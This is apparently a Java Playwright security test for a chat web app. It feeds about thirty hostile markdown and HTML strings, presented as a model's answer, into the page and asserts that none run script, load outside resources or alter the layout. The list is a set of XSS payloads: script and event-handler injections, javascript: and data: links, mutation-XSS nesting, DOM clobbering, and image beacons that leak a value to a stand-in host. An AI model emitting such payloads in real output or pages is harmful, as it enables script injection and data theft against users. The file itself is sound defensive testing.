package dev.altiplano.server.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What a hostile model may write. */
@ExtendWith(BrowserExtension.class)
final class SafetyTest {
    /**
     * Each would set window.hacked, ask an outside host, or change the page, were it let through.
     */
    private static final List<String> HOSTILE =
            List.of(
                    "<script>window.hacked = 1</script>",
                    "<img src=x onerror=\"window.hacked = 2\">",
                    "<img src=https://outside.example/leak.png>",
                    "![leak](https://outside.example/?q=secret)",
                    "![x](x\" onerror=\"window.hacked = 3)",
                    "<svg onload=\"window.hacked = 4\"><script>window.hacked = 5</script></svg>",
                    "<svg><style><img src=x onerror=window.hacked=6></style></svg>",
                    "<iframe srcdoc=\"<script>parent.hacked = 7</script>\"></iframe>",
                    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=8>",
                    "<style>* { display: none }</style>",
                    "<link rel=stylesheet href=https://outside.example/x.css>",
                    "<form action=https://outside.example><button id=send>Go</button></form>",
                    "<a href=\"javascript:window.hacked = 9\">raw</a>",
                    "[link](javascript:window.hacked=10)",
                    "[link](JaVaScRiPt:window.hacked=11)",
                    "[link](java\\nscript:window.hacked=12)",
                    "[link](data:text/html,<script>window.hacked=13</script>)",
                    "[link](vbscript:x) [relative](/v1/models) [bare](//outside.example)",
                    "[x]: javascript:window.hacked=14\n\n[x]",
                    "<javascript:window.hacked=15>",
                    "[a](https://outside.example \"\\\" onmouseover=window.hacked=16\")",
                    "```html\" onmouseover=\"window.hacked=17\n<script>window.hacked=18</script>\n```",
                    "```java\n</code></pre><script>window.hacked=19</script>\n```",
                    "| <img src=x onerror=window.hacked=20> |\n|---|\n| <script>window.hacked=21</script> |",
                    "<details open ontoggle=window.hacked=22>x</details>",
                    "<input autofocus onfocus=window.hacked=23>",
                    "<div style=\"position:fixed;inset:0;background:red\">over everything</div>",
                    "<chat-app></chat-app><code-block closed></code-block>",
                    "<a name=body id=location href=https://outside.example>clobber</a>",
                    "<!--><img src=x onerror=window.hacked=24>-->",
                    "<p title=\"</p><img src=x onerror=window.hacked=25>\">",
                    "&lt;script&gt;window.hacked=26&lt;/script&gt;");

    @Test
    void nothingThatTheModelWritesRunsOrLoadsAnything(PageBrowser browser) {
        Dictation answer = browser.model().nextAnswer();
        ChatPage chat = browser.open();
        chat.send("Attack");
        for (String piece : HOSTILE) {
            answer.say(piece).say("\n\n");
        }
        answer.say("The end.").end();
        assertThat(chat.lastMessage().locator(".figures")).containsText("tokens");

        assertThat(chat.run("window.hacked ?? null")).isNull();
        assertThat(elementNames(chat))
                .isSubsetOf(
                        "a",
                        "br",
                        "code",
                        "code-block",
                        "p",
                        "pre",
                        "span",
                        "strong",
                        "table",
                        "table-block",
                        "tbody",
                        "td",
                        "th",
                        "thead",
                        "tr",
                        "em",
                        "li",
                        "ul");
        assertThat(attributeNames(chat))
                .isSubsetOf("class", "closed", "data-host", "href", "rel", "target", "title");
        assertThat(links(chat)).allMatch(link -> link.startsWith("https://outside.example"));
        assertThat(chat.lastAnswer()).containsText("<script>window.hacked = 1</script>");
    }

    @Test
    void theSameHoldsForMessagesOutOfTheStorageAndForTheReadersOwn(PageBrowser browser) {
        browser.model().willSay(String.join("\n\n", HOSTILE));
        ChatPage chat = browser.open();
        chat.sendAndAwaitAnswer(HOSTILE.getFirst() + HOSTILE.get(1));

        chat.page().reload();
        chat.waitUntilReady();

        assertThat(chat.questions()).hasText(HOSTILE.getFirst() + HOSTILE.get(1));
        assertThat(chat.run("window.hacked ?? null")).isNull();
        assertThat(chat.chats()).hasCount(1);
    }

    @Test
    void linksLeaveNoTraceAndSayWhereTheyLead(PageBrowser browser) {
        browser.model().willSay("[Read this](https://outside.example/path) or mailto:a@b.example");
        ChatPage chat = browser.open();

        chat.sendAndAwaitAnswer("Link");

        var link = chat.lastAnswer().locator("a").first();
        assertThat(link).hasAttribute("rel", "noopener noreferrer");
        assertThat(link).hasAttribute("target", "_blank");
        assertThat(link).hasAttribute("data-host", "outside.example");
    }

    private static final String IN_ANSWER =
            "() => { const box = document.querySelector('chat-app').renderRoot.querySelector('chat-log')"
                    + ".renderRoot.querySelector('chat-message:last-of-type').renderRoot"
                    + ".querySelector('answer-text').renderRoot.querySelector('.blocks');"
                    + " const all = [...box.querySelectorAll('*')]; return %s; }";

    private static List<String> elementNames(ChatPage chat) {
        return chat.runForStrings(IN_ANSWER.formatted("all.map((e) => e.localName)"));
    }

    private static List<String> attributeNames(ChatPage chat) {
        return chat.runForStrings(IN_ANSWER.formatted("all.flatMap((e) => e.getAttributeNames())"));
    }

    private static List<String> links(ChatPage chat) {
        return chat.runForStrings(
                IN_ANSWER.formatted(
                        "all.filter((e) => e.hasAttribute('href')).map((e) => e.getAttribute('href'))"));
    }
}
